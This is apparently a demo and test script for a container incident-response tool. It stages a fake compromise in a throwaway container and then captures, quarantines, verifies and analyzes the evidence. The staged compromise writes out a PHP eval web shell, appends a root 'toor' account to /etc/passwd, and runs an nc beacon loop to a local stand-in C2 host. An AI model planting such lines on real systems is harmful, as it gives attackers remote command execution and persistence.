#!/bin/bash
# tests/demo.sh (make demo): a throwaway runc container from the fixture image
# (no daemon; nothing of the machine's own container setup is touched), a
# simulated compromise (a fake miner logging in to a pool, a web shell, EICAR
# only in a process's heap, a deleted executable, a C2 beacon...), and a whole
# response walked on it with every verb: list, inspect, quarantine (dry run),
# keygen, capture (which quarantines and freezes), the evidence read with
# outside tools (jq, tcpdump, tar, gdb), verify (and a tampered copy failing),
# release, audit verify (a cut copy failing on the bag's heads), analyze (as
# nobody, against the image), respond (a Falco alert in, the capture and
# quarantine it triggered out). Cleans up.
set -u
. "$(dirname "$0")/lib/lib.sh"
. "$CONTAIN_TOP/tests/lib/containers.sh"
. "$CONTAIN_TOP/tests/lib/net.sh"

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
show() {
	printf '\033[2m$ %s\033[0m\n' "$*"
	"$@"
}
reach() { timeout 5 wget -q -t 1 -T 2 -O /dev/null "http://$CTRIP:8080/" 2>/dev/null; }

[ "$(id -u)" -eq 0 ] || { echo "demo: run as root" >&2; exit 1; }
fixtures_ready || { echo "demo: no fixtures (fixtures/build.sh)" >&2; exit 1; }
C=$(basename "$CONTAIN")
# shown as "contain ...": the binary's directory goes first on PATH
PATH="$(dirname "$CONTAIN"):$PATH"
cd "$T_DIR" || exit 1

say "a throwaway runc container from the fixture image, with a veth to the host"
NAME=web-demo-$$
runc_run "$NAME" || { echo "demo: could not start the container" >&2; exit 1; }
# whatever happens, the demo leaves no quarantine behind (on_exit runs in reverse)
on_exit "\"$CONTAIN\" release $NAME"
HOSTIF=cdemo$$ HOSTIP=10.213.250.1 CTRIP=10.213.250.2 C2=10.213.250.1
veth_attach "$CPID" "$HOSTIF" "$HOSTIP/30" "$CTRIP/30" || { echo "demo: veth failed" >&2; exit 1; }
echo "container $CID: init pid $CPID, overlay upper $CUPPER"
echo "link: host $HOSTIF $HOSTIP <-> container eth0 $CTRIP; it serves HTTP on :8080"

say "simulate a compromise"
# a mining pool on the host: it answers a miner's login, then hangs up (the
# miner comes back a second later); without python3 the miner only knocks
POOLPORT=3333
if command -v python3 >/dev/null; then
	python3 -c '
import socket, sys, threading, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(16)
def pool(c):
    c.makefile("rb").readline()
    c.sendall(b"{\"id\":1,\"jsonrpc\":\"2.0\",\"result\":{\"status\":\"OK\"}}\n")
    time.sleep(0.5); c.close()
while True:
    c, _ = s.accept(); threading.Thread(target=pool, args=(c,), daemon=True).start()
' "$HOSTIP" "$POOLPORT" >/dev/null 2>&1 &
	POOLD=$!
	on_exit "kill $POOLD"
fi
# the intruder's downloads, through the container (fixtures/src: harmless
# stand-ins built static, never part of the image)
PROGS=$CONTAIN_TOP/fixtures/cache/progs
put() { runc_exec "$NAME" sh -c "cat >'$2' && chmod 0755 '$2'" <"$1"; }
put "$PROGS/fakeminer" /tmp/xmr
put "$PROGS/eicarheap" /usr/local/bin/eicarheap
printf '<?php\n@eval($_POST["cmd"]);\n?>\n' | runc_exec "$NAME" sh -c 'cat >/var/www/shell.php'
runc_exec "$NAME" sh -c '
	(/tmp/xmr '"$C2"' '"$POOLPORT"' >/dev/null 2>&1 &)
	(eicarheap --addr-file /tmp/.eicar >/dev/null 2>&1 &)
	echo "toor:x:0:0::/root:/bin/sh" >> /etc/passwd
	rm -f /bin/wget
	mkdir -p /tmp/.x && cp /bin/busybox /tmp/.x/sleep && (/tmp/.x/sleep 100000 >/dev/null 2>&1 &)
	sleep 0.2; rm -rf /tmp/.x
	(memtarget --addr-file /tmp/.addr >/dev/null 2>&1 &)
	(while :; do nc -w 3 '"$C2"' 4444 </dev/null >/dev/null 2>&1; done >/dev/null 2>&1 &)
' </dev/null
wait_for 10 test -s "$CMERGED/tmp/.addr"
wait_for 10 test -s "$CMERGED/tmp/.eicar"
echo "planted: a root account in /etc/passwd; /bin/wget deleted; a deleted executable running as"
echo "'sleep'; a process holding a secret in memory; a beacon trying a C2 at $C2:4444 without pause;"
echo "a fake miner (/tmp/xmr) logging in to a pool at $C2:$POOLPORT; a PHP web shell in /var/www;"
echo "the EICAR test string in the heap of a process (at $(cat "$CMERGED/tmp/.eicar"), never on disk)"

say "find it: every runtime at once, by name, prefix or pid"
show "$C" list
printf '\033[2m$ %s inspect %s | jq ...\033[0m\n' "$C" "$CPID"
"$C" inspect "$CPID" | jq '{runtime, id, pid, pids, cgroup_unified, netns, overlay}'

say "what a quarantine would do (dry run: touches nothing)"
show "$C" quarantine --dry-run "$NAME"
printf 'before: the container answers on %s:8080? ' "$CTRIP"
reach && echo yes || echo no

say "an Ed25519 key for sealing the evidence"
show "$C" keygen -o "$T_DIR/examiner"

say "capture: pcap on, 2 s observed, network cut, processes and sockets, 2 s cut off and watched, freeze, memory, fs diff, metadata, seal"
echo "(meanwhile the host keeps knocking on $CTRIP:8080: what reaches for it from outside is evidence too)"
(while :; do reach; sleep 0.5; done) >/dev/null 2>&1 &
PROBER=$!
on_exit "kill $PROBER"
show "$C" capture "$NAME" -o "$T_DIR/case-1" --case CASE-1 --examiner "demo responder" \
	--sign-key "$T_DIR/examiner.key" --observe 2 --pcap-seconds 2 --watch-cut 2
kill "$PROBER" 2>/dev/null
wait "$PROBER" 2>/dev/null
printf 'after:  the container answers on %s:8080? ' "$CTRIP"
reach && echo yes || echo "no (cut)"
echo "its cgroup: $(grep frozen /sys/fs/cgroup/unified/contain-test/$NAME/cgroup.events)"
echo "the QUARANTINE column is read back from the kernel (tables in its netns and on its veth, the freezer):"
show "$C" list
show ls "$T_DIR/case-1" "$T_DIR/case-1/data"

say "the evidence, read with the tools people use"
B=$T_DIR/case-1/data
echo "-- the deleted executable, flagged and hashed (processes/tree.json):"
jq -c '.pids[] | select(.exe.deleted == true) | {pid, comm, exe: .exe.path, sha256: .exe.sha256}' "$B/processes/tree.json"
echo "   sha256 of the image's busybox: $(sha256sum "$FIXTURE_ROOTFS/bin/busybox" | cut -c1-64)"
echo "-- the beacon, through the cut (tcpdump -r network/capture-nflog.pcap):"
CUT=$(jq -r '.windows.times.cut' "$T_DIR/case-1/index.json")
echo "   index.json: the cut held at $CUT, cut off and running until $(jq -r '.windows.times.freeze_start' "$T_DIR/case-1/index.json"); attempts after the cut:"
tcpdump -tt -nr "$B/network/capture-nflog.pcap" 2>/dev/null | grep -F "$C2.4444: Flags [S]" |
	awk -v c="$(date -u -d "$CUT" +%s.%N)" '$1 > c' | head -4
echo "-- what reached for it from outside after the cut (the host table's drops, network/capture-host-nflog.pcap):"
tcpdump -tt -nr "$B/network/capture-host-nflog.pcap" 2>/dev/null | grep -F "$CTRIP.8080: Flags [S]" |
	awk -v c="$(date -u -d "$CUT" +%s.%N)" '$1 > c' | head -3
echo "-- the filesystem diff as an OCI layer (tar -tvf fs/upper.tar):"
tar -tvf "$B/fs/upper.tar" | grep -E 'passwd|\.wh\.' | head -5
MT=$(jq -r '.pids[] | select(.comm == "memtarget") | .pid' "$B/processes/tree.json" | head -1)
ADDR=$(cat "$CMERGED/tmp/.addr" 2>/dev/null)
if [ -n "$MT" ] && [ -f "$B/memory/$MT.core" ]; then
	echo "-- the memory of pid $MT, an ELF core gdb loads (memory/$MT.core): info threads lists"
	echo "   exactly its $(ls "/proc/$MT/task" 2>/dev/null | wc -l) threads, by their ids inside the container, each with its registers"
	gdb -q -batch -ex 'info threads' -ex "x/s $ADDR" "$FIXTURE_ROOTFS/usr/bin/memtarget" \
		"$B/memory/$MT.core" 2>/dev/null | grep -E '^  Id +Target|^[* ] +[0-9]+ +(Thread .*)?LWP|^0x'
	echo "   host and container ids side by side (memory/summary.json):"
	jq -r --argjson p "$MT" '.processes[] | select(.pid == $p) | .registers.threads[] |
		"   host tid \(.tid) = tid \(.ns_tid) in the container, registers from \(.source)"' \
		"$B/memory/summary.json"
fi

say "verify the bag: with contain, then with sha256sum alone"
show "$C" verify --pubkey "$T_DIR/examiner.pub" "$T_DIR/case-1"
(cd "$T_DIR/case-1" && show sha256sum --quiet -c manifest-sha256.txt && echo "manifest: OK" &&
	show sha256sum --quiet -c tagmanifest-sha256.txt && echo "tag manifest: OK")

say "tamper with a copy: one byte of the process list"
cp -a "$T_DIR/case-1" "$T_DIR/case-1-tampered"
printf 'X' | dd of="$T_DIR/case-1-tampered/data/processes/tree.json" bs=1 seek=20 conv=notrunc status=none
show "$C" verify --pubkey "$T_DIR/examiner.pub" "$T_DIR/case-1-tampered"
echo "(exit $?: the tampering is caught)"

say "release: only on purpose"
show "$C" release "$NAME"
printf 'after release: the container answers on %s:8080? ' "$CTRIP"
wait_for 10 reach && echo yes || echo no

say "quarantine on its own, without a capture: traffic stops; release: it resumes"
show "$C" quarantine "$NAME"
printf 'quarantined: the container answers on %s:8080? ' "$CTRIP"
reach && echo yes || echo "no (cut)"
echo "its cgroup: $(grep frozen /sys/fs/cgroup/unified/contain-test/$NAME/cgroup.events)"
show "$C" quarantine "$NAME"
show "$C" release "$NAME"
printf 'released: the container answers on %s:8080? ' "$CTRIP"
wait_for 10 reach && echo yes || echo no

say "the node audit log: hash-chained from a genesis bound to this node, and the bag holds its heads"
show "$C" audit verify --bag "$T_DIR/case-1" "$CONTAIN_AUDIT_LOG"
END=$(sed -n 's/^Contain-Audit-Head-End: \([0-9]*\):.*/\1/p' "$T_DIR/case-1/bag-info.txt")
# line 1 is the genesis (seq 0): the first END lines end just before that head
head -n "$END" "$CONTAIN_AUDIT_LOG" >"$T_DIR/audit-cut.jsonl"
echo "a copy cut just before the capture's end head (seq $END) still chains, but no longer holds it:"
show "$C" audit verify --bag "$T_DIR/case-1" "$T_DIR/audit-cut.jsonl"
echo "(exit $?)"

say "analyze the bag offline, as nobody (no root, no network), against the image the container came from"
mkdir -m 1777 "$T_DIR/lab" && chmod o+x "$T_DIR"
cp -a "$T_DIR/case-1" "$T_DIR/lab/case-1" && chmod -R a+rX "$T_DIR/lab/case-1"
show setpriv --reuid=nobody --regid=nogroup --clear-groups \
	"$C" analyze "$T_DIR/lab/case-1" --image "$CONTAIN_TOP/fixtures/cache/fixture-docker.tar" \
	--pubkey "$T_DIR/examiner.pub" -o "$T_DIR/lab/case-1-report"
echo "(exit $?: a finding at or above high)"
R=$T_DIR/lab/case-1-report/report.json
echo "-- what YARA found: in the layer's files, in the cores (pid, address, mapping), in the pcap's streams:"
jq -r 'def hex: [recurse(if . >= 16 then (. / 16 | floor) else empty end) | . % 16]
	| reverse | map("0123456789abcdef"[.:. + 1]) | "0x" + join("");
	.findings[] | select(.id | startswith("yara.")) | .evidence as $e
	| "   \(.severity)\t\(.id)\t" + (if $e.pid != null then
		"pid \($e.pid) (\($e.process_name)) at \($e.address | hex) in \($e.mapping)"
	elif $e.flow != null then
		"\($e.flow.proto) \($e.flow.src):\($e.flow.sport) -> \($e.flow.dst):\($e.flow.dport) \($e.direction)"
	else .path end)' "$R" | sort -u | head -20
echo "   (eicarheap put EICAR at $(cat "$CMERGED/tmp/.eicar" 2>/dev/null))"
echo "-- the network and process findings:"
jq -r '.findings[] | select(.id | test("^(flow|proc|mem)\\.")) | "   \(.severity)\t\(.id)\t\(.path // "")"' "$R" | head -20
# the demo's temp dir goes at its end: the report is kept in the build dir
rm -rf "$CONTAIN_BUILD/demo-report" && cp -a "$T_DIR/lab/case-1-report" "$CONTAIN_BUILD/demo-report" &&
	echo "the report is kept: open $CONTAIN_BUILD/demo-report/report.html in a browser"

# ---- respond (issue 12): a detector's alert to capture and quarantine, no human
say "respond: a Falco alert for a shell in a container, fed to contain respond"
RID=$(printf 'respond-demo-%s' "$$" | sha256sum | cut -c1-64)
if runc_run "$RID"; then
	on_exit "\"$CONTAIN\" release $RID"
	# the shipped playbooks, root's and not group-writable as respond insists
	install -d -m 0755 "$T_DIR/playbooks"
	if ls "$CONTAIN_TOP"/playbooks/*.json >/dev/null 2>&1; then
		install -m 0644 "$CONTAIN_TOP"/playbooks/*.json "$T_DIR/playbooks/"
	else
		echo '{"name": "terminal-shell", "match": {"rule": "Terminal shell in container"},
		 "steps": [{"capture": {"pcap_seconds": 2}}, {"quarantine": {}}]}' >"$T_DIR/playbooks/10-terminal-shell.json"
	fi
	# Falco's own example alert (fixtures/alerts/falco/), its container id made this one's 12-char id
	FA=$CONTAIN_TOP/fixtures/alerts/falco/terminal-shell.json
	if [ -f "$FA" ]; then
		jq -c --arg id "${RID:0:12}" '.output_fields["container.id"] = $id' "$FA" >"$T_DIR/alert.jsonl"
	else
		jq -nc --arg id "${RID:0:12}" '{output: "A shell was spawned in a container with an attached terminal",
		  priority: "Notice", rule: "Terminal shell in container", time: "2026-12-07T12:00:00Z",
		  output_fields: {"container.id": $id, "proc.name": "sh", "proc.pid": 4242}}' >"$T_DIR/alert.jsonl"
	fi
	show cat "$T_DIR/alert.jsonl"
	show "$C" respond --playbooks "$T_DIR/playbooks" --bags "$T_DIR/respond-bags" <"$T_DIR/alert.jsonl"
	RB=$(ls -d "$T_DIR"/respond-bags/* 2>/dev/null | head -1)
	if [ -n "$RB" ]; then
		show "$C" verify "$RB"
		echo "the alert that started it, in the bag's custody log:"
		jq -c 'select(.action=="trigger") | {action, playbook, rule: .alert.rule, container: .alert.container.id, raw_priority: .raw.priority}' "$RB/custody.jsonl"
	fi
	echo "the kernel: $(grep frozen "$(cg2_root)/contain-test/$RID/cgroup.events"); netns tables:" \
		"$(nsenter --net="/proc/$CPID/ns/net" nft list tables | tr '\n' ' ')"
	echo "the decisions in the audit log:"
	jq -c 'select(.action|startswith("respond")) | {action, result, playbook, step}' "$CONTAIN_AUDIT_LOG" | tail -6
	show "$C" release "$RID"
else
	echo "(no second container: the respond part is left out)"
fi

say "clean up: the container, its overlay, cgroups and veth go"
